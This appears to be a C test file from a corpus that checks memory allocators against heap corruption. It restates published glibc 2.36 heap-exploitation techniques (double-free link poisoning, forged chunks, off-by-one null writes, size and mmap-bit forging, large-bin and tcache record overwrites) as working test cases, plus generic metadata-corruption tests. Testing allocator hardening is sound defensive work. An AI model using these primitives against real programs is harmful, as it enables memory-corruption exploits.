/*
 * G: the published techniques against glibc's heap, restated: what the attacker's bugs allow him in each is
 * one or two writes beyond or after a block, at distances that hold for glibc 2.36. Under another allocator
 * the same writes go to other things; the goals are the same.
 * H: writes to an allocator's own records, wherever they are.
 */
#include "corpus.h"

#include <unistd.h>

typedef volatile uint64_t word;

static uint64_t target[256] __attribute__((aligned(64)));

// glibc keeps a link like this in a freed block.
static uint64_t protect(const void *at, const void *to)
{
    return (uint64_t)(uintptr_t)at >> 12 ^ (uint64_t)(uintptr_t)to;
}

INLINE void hold(void **at, size_t size, size_t count)
{
    for (size_t i = 0; i < count; i++) at[i] = take(size);
}

static void drop_all(void **at, size_t count)
{
    for (size_t i = 0; i < count; i++) drop(at[i]);
}

static void goal_if_target(const void *block)
{
    if (overlap(block, 1, target, sizeof target)) goal("malloc returned the attacker's address");
}

// A block freed twice, with another between, and a link to the attacker's memory written into it.
void G01(void)
{
    void *cached[7];
    hold(cached, 0x48, 7);
    void *one = take_zeroed(0x48), *two = take_zeroed(0x48);
    drop_all(cached, 7);
    drop(one);
    drop(two);
    drop(one);
    word *again = take_zeroed(0x48);
    crowd_add(&crowd, take_zeroed(0x48));
    target[1] = 0x50;
    *again = protect((void *)again, target);
    for (size_t i = 0; i < 2; i++) {
        void *block = take_zeroed(0x48);
        goal_if_target(block);
        crowd_add(&others, block);
    }
}

// A forged block, with sizes that fit, freed past the thread's full list.
void G02(void)
{
    void *cached[7];
    hold(cached, 0x30, 7);
    drop_all(cached, 7);
    target[1] = 0x40;
    target[9] = 0x1234;
    drop(&target[2]);
    void *block = take_zeroed(0x30);
    goal_if_target(block);
}

static uint64_t *holder[8];

// A forged free block inside a block; the neighbour is told that it may join it.
void G03(void)
{
    holder[4] = take(0x420);
    void *next = take(0x420), *fence = take(0x18);
    word *mine = holder[4];
    mine[1] = 0x420;
    mine[2] = (uintptr_t)&holder[4] - 0x18;
    mine[3] = (uintptr_t)&holder[4] - 0x10;
    mine[0x420 / 8] = 0x420;
    mine[0x428 / 8] = 0x430;
    drop(next);
    if (OPAQUE(holder[4]) == (uint64_t *)&holder[1]) {
        goal("the program's own pointer leads to the attacker's place");
        return;
    }
    drop(fence);
    drop((void *)mine);
}

// One zero byte too many, and a forged size before it: the block behind joins what is in use.
void G04(void)
{
    word *forged = take(0x38), *mine = take(0x28);
    void *behind = take(0xf8), *cached[7];
    hold(cached, 0xf8, 7);
    forged[0] = 0;
    forged[1] = 0x60;
    forged[2] = forged[3] = (uintptr_t)forged;
    mine[4] = 0x60;
    *((volatile byte *)mine + 0x28) = 0;
    drop_all(cached, 7);
    drop(behind);
    byte *block = take(0x158);
    if (overlap(block, 0x158, (void *)mine, 0x28)) goal("a new block lies over one in use");
}

// A block's size is made larger, by its neighbour, before it is freed.
void G05(void)
{
    word *before = take(0x508);
    void *middle = take(0x508), *live = take(0x78), *fence = take(0x18);
    before[0x508 / 8] = 0x591;
    drop(middle);
    void *block = take(0x588);
    if (overlap(block, 0x588, live, 0x78)) goal("a new block lies over one in use");
    drop(fence);
}

// A block is freed, joined with the one before, and freed again into the thread's list.
void G06(void)
{
    void *cached[7];
    hold(cached, 0x100, 7);
    void *before = take(0x100), *twice = take(0x100), *fence = take(0x10);
    drop_all(cached, 7);
    drop(twice);
    drop(before);
    void *room = take(0x100);
    drop(twice);
    void *large = take(0x120), *small = take(0x100);
    if (overlap(large, 0x120, small, 0x100)) goal("two new blocks share memory");
    drop(fence);
    drop(room);
}

// The size of a block with a mapping of its own; freeing it takes the next mapping away, too.
void G07(void)
{
    void *first = take(0x100000), *live = take(0x100000);
    word *mine = take(0x100000);
    fill(live, 0x5a, 64);
    mine[-1] = 0x202002;
    drop((void *)mine);
    byte *block = take(0x300000);
    if (overlap(block, 0x300000, live, 0x100000)) goal("a new block lies over one in use");
    drop(first);
}

// A link of a large freed block says where the address of the next is to be written.
void G08(void)
{
    word *large = take(0x428);
    void *fence = take(0x18), *smaller = take(0x418), *other = take(0x18);
    drop((void *)large);
    void *sorter = take(0x438);
    drop(smaller);
    target[8] = 0;
    large[3] = (uintptr_t)&target[8] - 0x20;
    void *again = take(0x438);
    if (OPAQUE(&target[0])[8]) goal("the attacker's address was written to");
    drop(fence);
    drop(other);
    (void)sorter;
    (void)again;
}

// Freed, joined with its surroundings, handed out as a larger one, and freed by the old pointer.
void G09(void)
{
    void *cached[7];
    hold(cached, 0x40, 7);
    drop_all(cached, 7);
    void *old = take_zeroed(0x40);
    drop(old);
    void *large = take(0x400);
    drop(old);
    void *again = take(0x400);
    if (overlap(large, 0x400, again, 0x400)) goal("two new blocks share memory");
}

// A link in the oldest of seven freed blocks, which all move to the thread's list.
void G10(void)
{
    void *blocks[14];
    hold(blocks, 0x40, 14);
    drop_all(blocks, 14);
    word *victim = blocks[7];
    *victim = protect((void *)victim, target);
    hold(blocks, 0x40, 8);
    void *block = take(0x40);
    goal_if_target(block);
}

// The same with the lists that are linked both ways.
void G11(void)
{
    void *blocks[9];
    target[3] = (uintptr_t)&target[2];
    hold(blocks, 0x90, 9);
    drop_all(blocks + 3, 6);
    drop(blocks[1]);
    drop(blocks[0]);
    drop(blocks[2]);
    void *sorter = take(0xa0), *one = take(0x90), *two = take(0x90);
    ((word *)blocks[2])[1] = (uintptr_t)target;
    crowd_add(&crowd, take_zeroed(0x90));
    void *block = take(0x90);
    goal_if_target(block);
    (void)sorter;
    (void)one;
    (void)two;
}

// A freed block's link leads to a chain of forged ones.
void G12(void)
{
    void *cached[7];
    word *victim = take(0x100);
    hold(cached, 0x100, 7);
    void *fence = take(1000);
    // Forged blocks of four words each: their links are the third and fourth.
    for (size_t i = 0; i < 16; i++) {
        target[4 * i + 2] = i ? (uintptr_t)&target[4 * (i - 1)] : (uintptr_t)victim - 16;
        target[4 * i + 3] = (uintptr_t)&target[4 * (i + 1)];
    }
    drop_all(cached, 7);
    drop((void *)victim);
    void *sorter = take(1200);
    victim[1] = (uintptr_t)target;
    hold(cached, 0x100, 7);
    crowd_add(&crowd, take(0x100));
    void *block = take(0x100);
    goal_if_target(block);
    (void)fence;
    (void)sorter;
}

// The link in a freed block is encoded with its own address, and so decodes itself.
void G13(void)
{
    void *first = take(0x38);
    word *second = take(0x38);
    drop(first);
    drop((void *)second);
    uint64_t link = *second, plain = 0;
    for (int bits = 52; bits > 0; bits -= 12) plain = (link ^ plain >> 12) >> bits << bits;
    if (link == (uintptr_t)first || (plain ^ (uintptr_t)first) < 16)
        goal("an address of the heap is known");
}

// A thread's list of freed blocks begins where glibc's heap begins.
void G14(void)
{
    word *mine = take(0x18), *start = (word *)mapping_start((void *)mine);
    uint16_t volatile *counts = (uint16_t volatile *)(start + 2);
    if ((uintptr_t)mine - (uintptr_t)start < 0x290) return;
    counts[1] = 1;
    start[2 + 16 + 1] = (uintptr_t)target;
    void *block = take(0x28);
    goal_if_target(block);
}

// The size of a block is made larger; the one behind the next is free already, and all three join.
void G15(void)
{
    word *before = take(0x508);
    void *grown = take(0x508), *live = take(0x508), *freed = take(0x508), *fence = take(0x508);
    drop(freed);
    before[0x508 / 8] = 0xa21;
    drop(grown);
    void *block = take(0x508 + 0x508);
    if (overlap(block, 0xa10, live, 0x508)) goal("a new block lies over one in use");
    drop(fence);
}

// A freed block is marked as a mapping of its own, which calloc takes to be zero.
void G16(void)
{
    void *cached[7];
    hold(cached, 0x58, 7);
    word *secret = take(0x58);
    fill_words((void *)secret, SECRET, 0x58);
    drop_all(cached, 7);
    drop((void *)secret);
    secret[-1] |= 2;
    void *block = take_zeroed(0x58);
    if (find_word(block, 0x58, SECRET)) goal("calloc gave another owner's secret");
}

// --- the records ---------------------------------------------------------------------------------

// The word before a block, where many allocators have its size.
void H01(void)
{
    crowd_take(&crowd, 64, 64);
    crowd_sort(&crowd);
    word *mine = crowd_pull(&crowd, 20);
    mine[-1] = 0x111;
    drop((void *)mine);
    for (size_t i = 0; i < 64; i++) {
        void *block = take(0x100);
        if (crowd_over(&crowd, 64, block, 0x100)) goal("a new block lies over one in use");
        crowd_add(&others, block);
    }
    crowd_drop(&others);
    crowd_drop(&crowd);
}

// Nearby memory that is none of the attacker's blocks is saved, and brought back after some blocks have
// been taken: are they handed out again?
enum { PLACES = 7, PLACE = 4096 };

static void records_copy(const byte *const base[PLACES], byte saved[PLACES][PLACE], bool back)
{
    for (size_t i = 0; i < PLACES; i++)
        for (size_t at = 0; base[i] && at < PLACE; at++) {
            volatile byte *there = (volatile byte *)base[i] + at;
            if (back)
                *there = saved[i][at];
            else
                saved[i][at] = *there;
        }
}

void H02(void)
{
    static byte saved[PLACES][PLACE];
    static const unsigned bits[PLACES] = {12, 16, 20, 21, 22, 25, 26};
    const byte *base[PLACES];
    crowd_take(&crowd, 64, 256);
    crowd_thin(&crowd);
    crowd_thin(&crowd);
    for (size_t i = 0; i < PLACES; i++) {
        base[i] = (byte *)((uintptr_t)crowd.at[0] >> bits[i] << bits[i]);
        bool mapped = points_somewhere((uintptr_t)base[i]);
        for (size_t j = 0; j < i; j++)
            if (base[j] == base[i]) mapped = false;
        if (!mapped) base[i] = NULL;
    }
    records_copy(base, saved, false);
    crowd_take(&others, 64, 8);
    records_copy(base, saved, true);
    crowd_take(&others, 64, 64);
    if (crowd_collides(&others, 64)) goal("blocks were handed out twice");
    crowd_drop(&others);
    crowd_drop(&crowd);
}

// Both links of a larger freed block.
void H03(void)
{
    word *mine = take(0x500);
    void *fence = take(0x500);
    drop((void *)mine);
    mine[0] = (uintptr_t)target;
    mine[1] = (uintptr_t)target;
    goal_if_within(target, sizeof target, 0x500, 16);
    drop(fence);
}

// The link in a freed neighbour, by an overflow.
void H04(void)
{
    crowd_take(&crowd, 64, 256);
    crowd_sort(&crowd);
    for (size_t i = 0; i < 256; i += 2) {
        void *freed = crowd.at[i];
        crowd.at[i] = NULL;
        drop(freed);
    }
    for (size_t i = 1; i + 2 < 256; i += 2) {
        word *mine = crowd.at[i];
        size_t distance = (size_t)((byte *)crowd.at[i + 2] - (byte *)mine) / 2;
        for (size_t at = 64; at <= distance && distance <= 256; at += 8)
            mine[at / 8] = (uintptr_t)target;
    }
    goal_if_within(target, sizeof target, 64, 512);
    crowd_drop(&crowd);
}

// A program that asks how much of a block it may use.
void H05(void)
{
    crowd_take(&crowd, 64, 64);
    for (size_t i = 0; i < crowd.count; i++) fill(crowd.at[i], 0x5a, 64);
    crowd_sort(&crowd);
    word *mine = crowd_pull(&crowd, 20);
    mine[-1] = 0x211;
    size_t room = usable((void *)mine);
    if (room <= 4096) fill((void *)mine, 0x41, room);
    for (size_t i = 0; i < crowd.count; i++)
        if (!filled_with(crowd.at[i], 0x5a, 64)) goal("a neighbour's data is changed");
    drop((void *)mine);
    crowd_drop(&crowd);
}

// The start of the page of a large block, which has the block's record in some allocators.
void H06(void)
{
    byte *live = take(300000), *mine = take(300000);
    // Both blocks' pages: glibc has the size there, in the second word.
    word *page = (word *)((uintptr_t)mine & ~UINT64_C(0xfff));
    for (word *at = page; at < (word *)mine; at++) *at = at == page + 1 ? 0x94002 : 0;
    drop(mine);
    byte *block = take(0x98000);
    if (overlap(block, 0x98000, live, 300000)) goal("a new block lies over one in use");
    drop(block);
    drop(live);
}
